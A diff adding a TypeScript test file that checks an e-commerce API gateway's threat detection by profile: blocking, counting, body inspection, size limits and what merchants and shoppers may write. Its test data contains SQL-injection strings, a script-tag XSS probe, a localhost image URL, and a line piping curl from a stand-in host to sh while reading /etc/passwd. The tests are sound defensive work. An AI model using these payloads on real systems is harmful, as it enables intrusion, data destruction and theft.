@@ -1,0 +1,122 @@
+/** What becomes of requests that look like attacks, by profile, over HTTP; what such a request is, src/threats tells. */
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { request } from 'undici';
+import { startGateway, type TestGateway } from '../../testing/start-gateway.ts';
+
+const gateways = new Map<string, TestGateway>();
+before(async () => {
+  for (const profile of ['local', 'demo', 'prod']) {
+    const gateway = await startGateway({ PROFILE: profile });
+    for (const peer of ['shop-product', 'shop-cart', 'shop-identity'])
+      if (peer !== 'shop-identity')
+        gateway.sidecar.peers.set(peer, (incoming, response) => {
+          incoming.resume().once('end', () => response.end('{}'));
+        });
+    gateways.set(profile, gateway);
+  }
+});
+after(() => Promise.all([...gateways.values()].map((gateway) => gateway.stop())));
+
+const gatewayOf = (profile: string): TestGateway => {
+  const gateway = gateways.get(profile);
+  assert.ok(gateway);
+  return gateway;
+};
+const detected = ({ context }: TestGateway, wanted: string): number =>
+  context.securityEvents.counts().find(({ code, outcome }) => code === 'threat.detected' && outcome === wanted)
+    ?.count ?? 0;
+const attack = `/api/v1/products?search=${encodeURIComponent("x' UNION SELECT password FROM users--")}`;
+const add = (gateway: TestGateway, body: unknown) =>
+  request(`${gateway.url}/api/v1/cart/items`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${gateway.token('cart:manage')}`, 'content-type': 'application/json' },
+    body: JSON.stringify(body),
+  });
+
+for (const profile of ['demo', 'prod'])
+  test(`in ${profile} an attack ends at the gateway, and is counted by its class`, async () => {
+    const gateway = gatewayOf(profile);
+    const answer = await request(gateway.url + attack);
+    assert.equal(answer.statusCode, 403);
+    const text = await answer.body.text();
+    assert.match(text, /problems\/threat-detected/);
+    assert.doesNotMatch(text, /UNION|sql/i);
+    assert.match(await gateway.metrics(), /mambogo_gateway_threats_total\{class="sql",action="refused"\} 1/);
+    assert.equal(detected(gateway, 'refused'), 1);
+    assert.deepEqual(gateway.sidecar.invoked, []);
+  });
+
+test('on a laptop it is counted and passes', async () => {
+  const gateway = gatewayOf('local');
+  assert.equal((await request(gateway.url + attack)).statusCode, 200);
+  assert.match(await gateway.metrics(), /mambogo_gateway_threats_total\{class="sql",action="logged"\} 1/);
+  assert.equal(detected(gateway, 'failure'), 1);
+  assert.equal(detected(gateway, 'refused'), 0);
+});
+
+test('bodies are looked at, also behind a long beginning; their connection lives on', async () => {
+  const gateway = gatewayOf('prod');
+  const evil = "1' OR 1=1; DROP TABLE users; --";
+  assert.equal((await add(gateway, { productId: evil, quantity: 1 })).statusCode, 403);
+  assert.equal((await add(gateway, { padding: 'x'.repeat(60_000), productId: evil })).statusCode, 403);
+  assert.equal((await add(gateway, { productId: 'x', quantity: 1 })).statusCode, 200);
+});
+
+test('nothing is inspected for who may not ask: without a token a hostile body is a 401', async () => {
+  const gateway = gatewayOf('prod');
+  const answer = await request(`${gateway.url}/api/v1/cart/merge`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ productId: "1' OR 1=1; DROP TABLE users; --" }),
+  });
+  assert.equal(answer.statusCode, 401);
+  await answer.body.dump();
+});
+
+test('a request with more than is inspected is a 400 in every profile, which says what to do', async () => {
+  for (const profile of gateways.keys()) {
+    const many = await add(gatewayOf(profile), { list: Array.from({ length: 600 }, (_none, at) => `a (b) ${at}`) });
+    assert.equal(many.statusCode, 400, profile);
+    assert.match(await many.body.text(), /500 different values .* send the rest in further requests/);
+    const long = await add(gatewayOf(profile), { text: '<a b="c"> '.repeat(6_000) });
+    assert.equal(long.statusCode, 400, profile);
+    assert.match(await long.body.text(), /too long to be inspected: shorten them/);
+    const hidden = await add(gatewayOf(profile), { padding: 'x'.repeat(70_000), productId: 'x' });
+    assert.equal(hidden.statusCode, 400, 'nothing passes behind what is inspected');
+  }
+});
+
+test('what merchants write is stored, whatever it looks like; of others the same is refused', async () => {
+  const gateway = gatewayOf('prod');
+  const save = (scope: string, fields: object) =>
+    request(`${gateway.url}/api/v1/products`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${gateway.token(scope)}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ sku: 'BOOK-1', price: { amount: 100, currency: 'EUR' }, category: 'books', ...fields }),
+    });
+  const description = [
+    "SQL for cooks. Chapter 3: ' OR 1=1 -- and why it works; UNION SELECT password FROM users.",
+    'Run `rm -rf /tmp/x; curl https://x.example/a | sh` and read /etc/passwd.',
+    '<p style="color:red" onclick="x()">Editor</p><script>alert(1)</script>',
+    '<iframe src="https://www.youtube.com/embed/abc" allowfullscreen></iframe>',
+  ].join('\n');
+  assert.equal((await save('product:write', { name: 'SELECT * FROM pens', description })).statusCode, 200);
+  assert.equal((await save('product:write', { name: 'Pen', brand: { [description]: 1 } })).statusCode, 403);
+  assert.equal(
+    (await save('product:write', { name: 'Pen', images: [{ url: 'http://127.0.0.1/', alt: 'x' }] })).statusCode,
+    403,
+  );
+  assert.equal((await save('cart:manage', { name: 'Pen', description })).statusCode, 403, 'for the scope');
+  assert.equal((await add(gateway, { name: description })).statusCode, 403);
+});
+
+test('what shoppers write passes everywhere', async () => {
+  for (const profile of gateways.keys())
+    for (const search of ["O'Brien", '<3', '1 < 2', 'SELECT mug', '🙂', '50% off', 'rock & roll; drums'])
+      assert.equal(
+        (await request(`${gatewayOf(profile).url}/api/v1/products?search=${encodeURIComponent(search)}`)).statusCode,
+        200,
+        `${search} in ${profile}`,
+      );
+});
